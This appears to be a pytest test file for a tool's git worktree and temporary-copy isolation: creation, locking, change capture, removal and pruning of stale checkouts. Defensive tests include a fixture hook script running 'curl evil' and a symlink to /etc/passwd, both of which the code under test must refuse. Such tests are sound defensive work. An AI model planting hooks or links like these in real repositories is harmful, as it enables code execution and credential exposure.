"""A run's checkout (runtime/worktree.py) in real git repositories: made outside the repository, locked, read back
as a ChangeSet, removed, and pruned when the TechCat that made it died."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from techcat_core.runtime.worktree import (
    WorktreeProblem,
    create_copy,
    create_worktree,
    isolation_problem,
    lock_reason,
    prune_stale,
)
from tests.gitutil import commit_all, git, init_repo


def _repo(root: Path) -> Path:
    root.mkdir()
    init_repo(root)
    (root / "apps" / "web").mkdir(parents=True)
    (root / "apps/web/page.tsx").write_text("export const Page = 1\n")
    (root / "README.md").write_text("# Shop\n")
    (root / "logo.bin").write_bytes(b"\x89PNG\0\x01")
    (root / ".gitignore").write_text("build/\n")
    commit_all(root, "start")
    return root


def _worktrees(root: Path) -> list[str]:
    return [line.split(" ", 1)[1] for line in git(root, "worktree", "list", "--porcelain").splitlines()
            if line.startswith("worktree ")]


def test_worktree_is_outside_locked_and_removed(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo")
    checkout = create_worktree(repo, "abcd1234")
    try:
        assert checkout.root.is_dir() and repo not in checkout.root.parents
        assert (checkout.root / "apps/web/page.tsx").read_text() == "export const Page = 1\n"
        listing = git(repo, "worktree", "list", "--porcelain")
        assert f"locked {lock_reason('abcd1234')}" in listing and "detached" in listing
        assert f"pid {os.getpid()}" in listing
        assert checkout.changes().changes == ()
    finally:
        checkout.remove()
    assert not checkout.root.exists()
    assert _worktrees(repo) == [str(repo)]


def test_changes_cover_edits_new_files_deletions_binary_and_modes(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo")
    (repo / "README.md").write_text("# Shop, edited by the user, not committed\n")  # the worktree starts at HEAD
    checkout = create_worktree(repo, "r1")
    try:
        root = checkout.root
        assert (root / "README.md").read_text() == "# Shop\n"
        (root / "apps/web/page.tsx").write_text("export const Page = 2\n")
        (root / "apps/web/new.tsx").write_text("new\n")
        (root / "logo.bin").unlink()
        (root / "tool.sh").write_bytes(b"#!/bin/sh\n\0binary-ish\n")
        (root / "tool.sh").chmod(0o755)
        (root / "build").mkdir()
        (root / "build/out.js").write_text("ignored\n")  # ignored by .gitignore: not a change
        git(root, "add", "apps/web/new.tsx")  # an executor that stages (or even commits) changes nothing here
        changes = checkout.changes()
    finally:
        checkout.remove()
    by_path = {c.path: c for c in changes.changes}
    assert list(by_path) == sorted(["apps/web/new.tsx", "apps/web/page.tsx", "logo.bin", "tool.sh"])
    assert by_path["apps/web/page.tsx"].before == b"export const Page = 1\n"
    assert by_path["apps/web/page.tsx"].after == b"export const Page = 2\n" and by_path["apps/web/page.tsx"].mode \
        is None
    assert by_path["apps/web/new.tsx"].kind == "added" and by_path["apps/web/new.tsx"].mode == 0o100644
    assert by_path["logo.bin"].before == b"\x89PNG\0\x01" and by_path["logo.bin"].after is None
    assert by_path["tool.sh"].mode == 0o100755 and by_path["tool.sh"].after == b"#!/bin/sh\n\0binary-ish\n"
    assert "Binary file tool.sh added" in changes.diff()


def test_a_symbolic_link_made_by_the_run_is_refused(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo")
    checkout = create_worktree(repo, "r2")
    try:
        (checkout.root / "apps/web/passwd").symlink_to("/etc/passwd")
        with pytest.raises(WorktreeProblem, match=r'"apps/web/passwd" a symbolic link.*nothing was applied'):
            checkout.changes()
    finally:
        checkout.remove()


def test_a_fifo_made_by_the_run_is_refused(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo")
    checkout = create_worktree(repo, "r2b")
    try:
        (checkout.root / "README.md").unlink()
        os.mkfifo(checkout.root / "README.md")  # where a tracked file was: not a deletion, a refusal
        with pytest.raises(WorktreeProblem, match=r'"README.md" a FIFO, socket or device.*nothing was applied'):
            checkout.changes()
    finally:
        checkout.remove()
    assert not checkout.root.exists()


def test_a_worktree_whose_folder_was_deleted_is_still_removed(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo")
    checkout = create_worktree(repo, "r3")
    subprocess.run(["rm", "-rf", str(checkout.root)], check=True)
    checkout.remove()
    assert _worktrees(repo) == [str(repo)]


def test_stale_worktrees_of_a_dead_pid_or_a_gone_folder_are_pruned(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo")
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True,
                          check=True)
    dead_pid = int(dead.stdout)
    stale = tmp_path / "stale"
    git(repo, "worktree", "add", "--detach", "--lock", "--reason", lock_reason("dead0001", dead_pid), str(stale))
    gone = tmp_path / "gone"
    git(repo, "worktree", "add", "--detach", "--lock", "--reason", lock_reason("gone0001", dead_pid), str(gone))
    subprocess.run(["rm", "-rf", str(gone)], check=True)
    mine = create_worktree(repo, "live0001")  # this process is alive: its worktree stays
    foreign = tmp_path / "foreign"
    git(repo, "worktree", "add", "--detach", "--lock", "--reason", "someone else's", str(foreign))
    try:
        removed = prune_stale(repo)
        assert sorted(removed) == sorted([stale, gone])
        assert sorted(_worktrees(repo)) == sorted([str(repo), str(mine.root), str(foreign)])
        assert not stale.exists()
    finally:
        mine.remove()


def test_isolation_problems_are_said(tmp_path: Path) -> None:
    assert isolation_problem(None) == "the workspace is not in a git repository"
    empty = tmp_path / "empty"
    empty.mkdir()
    init_repo(empty)
    assert isolation_problem(empty) == "the repository has no commits yet"
    with pytest.raises(WorktreeProblem, match="no commits yet"):
        create_worktree(empty, "x")
    assert isolation_problem(_repo(tmp_path / "repo")) is None


def test_a_temporary_copy_without_git_reads_changes_the_same_way(tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    (plain / ".codex" / ".techcat").mkdir(parents=True)
    (plain / ".codex/.techcat/runs.sqlite3").write_bytes(b"state")
    (plain / "notes.md").write_text("one\n")
    copy = create_copy(plain, "c1")
    try:
        assert not (copy.root / ".codex/.techcat").exists()  # TechCat's own state is not copied
        (copy.root / "notes.md").write_text("two\n")
        (copy.root / "added.md").write_text("new\n")
        changes = copy.changes()
    finally:
        copy.remove()
    assert [(c.path, c.before, c.after) for c in changes.changes] == [
        ("added.md", None, b"new\n"), ("notes.md", b"one\n", b"two\n")]
    assert not copy.root.parent.exists()
    assert (plain / "notes.md").read_text() == "one\n"


def test_a_file_the_run_made_unreadable_is_a_sentence_not_a_traceback(tmp_path: Path) -> None:
    if os.geteuid() == 0:  # root reads a mode-000 file anyway
        pytest.skip("root can read a file whatever its mode")
    repo = _repo(tmp_path / "repo")
    checkout = create_worktree(repo, "r4")
    try:
        (checkout.root / "README.md").chmod(0)
        with pytest.raises(WorktreeProblem, match=r'"README.md", which cannot be read .*nothing was applied'):
            checkout.changes()
    finally:
        (checkout.root / "README.md").chmod(0o644)
        checkout.remove()


def test_a_hooks_path_inside_the_repository_is_never_landed(tmp_path: Path) -> None:
    from techcat_core.runtime.changes import ChangeSet, FileChange
    from techcat_core.runtime.landing import LandingRefused, plan_landing
    from techcat_core.runtime.worktree import hooks_folders

    repo = _repo(tmp_path / "repo")
    git(repo, "config", "core.hooksPath", ".githooks")
    assert hooks_folders(repo) == (".githooks",)
    change = ChangeSet((FileChange(".githooks/pre-commit", None, b"#!/bin/sh\ncurl evil\n", 0o100755),))
    with pytest.raises(LandingRefused, match=r"lies in .githooks/, the folder git runs hooks from"):
        plan_landing(repo, change, ["**"], hooks_folders(repo))


def test_a_repository_git_cannot_read_is_not_mistaken_for_one_without_commits(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo")
    (repo / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (repo / ".git" / "refs" / "heads" / "main").write_text("0123456789abcdef0123456789abcdef01234567\n")
    problem = isolation_problem(repo)
    assert problem is not None and problem.startswith("git cannot use the repository (")


def test_a_temporary_copy_left_by_a_dead_techcat_is_pruned(tmp_path: Path) -> None:
    import tempfile

    from techcat_core.runtime.worktree import HOST

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True,
                          check=True)
    left = Path(tempfile.mkdtemp(prefix="techcat-copy-dead0001-"))
    (left / "owner").write_text(f"{int(dead.stdout)} {HOST}\n")
    (left / "tree").mkdir()
    live = create_copy(_repo(tmp_path / "repo"), "live0002")
    try:
        removed = prune_stale(None)
        assert left in removed and not left.exists()
        assert live.root.is_dir()  # this process's own copy stays
    finally:
        live.remove()
